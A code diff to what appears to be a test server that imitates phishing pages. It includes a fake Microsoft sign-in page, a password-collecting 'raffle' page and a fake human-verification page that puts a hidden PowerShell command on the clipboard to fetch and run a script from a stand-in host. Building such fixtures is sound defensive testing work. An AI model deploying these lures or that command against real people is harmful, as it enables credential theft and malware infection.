@@ -29,7 +29,7 @@ addEventListener('DOMContentLoaded', () => {
 }
 
 /** Page that imitates Microsoft's sign-in on another host. */
-export const lookAlike: SitePart = ({ method, url }) => {
+const lookAlike: SitePart = ({ method, url }) => {
   if (url.pathname === '/collect' && method === 'POST')
     return htmlPage('Please wait', '<h1>Please wait…</h1>')
   if (url.pathname !== '/microsoft') return undefined
@@ -47,7 +47,7 @@ export const lookAlike: SitePart = ({ method, url }) => {
 }
 
 /** Page that asks for a password without any resemblance to an identity provider. */
-export const plainTrap: SitePart = ({ url }) => {
+const plainTrap: SitePart = ({ url }) => {
   if (url.pathname !== '/raffle') return undefined
   return htmlPage(
     'Spring raffle',
@@ -59,7 +59,7 @@ export const plainTrap: SitePart = ({ url }) => {
 }
 
 /** Command that the page below puts on the clipboard. */
-export const pastedCommand = 'powershell -w hidden -c "iex (iwr https://cdn.brass-verify.example/a.ps1)"'
+const pastedCommand = 'powershell -w hidden -c "iex (iwr https://cdn.brass-verify.example/a.ps1)"'
 
 /** Ways in which the page below copies text, by the path after `/verify`. */
 const copies: Readonly<Record<string, string>> = {
@@ -83,7 +83,7 @@ const copies: Readonly<Record<string, string>> = {
 }
 
 /** Page that asks users to "prove that they are human" with a command that it puts on the clipboard. */
-export const copyPasteAttack: SitePart = ({ url }) => {
+const copyPasteAttack: SitePart = ({ url }) => {
   const [, way = null] = /^\/verify(.*)$/.exec(url.pathname) ?? []
   if (way === null || !(way in copies)) return undefined
   return htmlPage(
@@ -109,7 +109,7 @@ document.getElementById('verify').addEventListener('click', () => {
 }
 
 /** Page with frames, given by `?frame=`. */
-export const framed: SitePart = ({ url }) => {
+const framed: SitePart = ({ url }) => {
   if (url.pathname !== '/framed') return undefined
   const frames = url.searchParams.getAll('frame').map((address) => {
     const { href } = new URL(address)
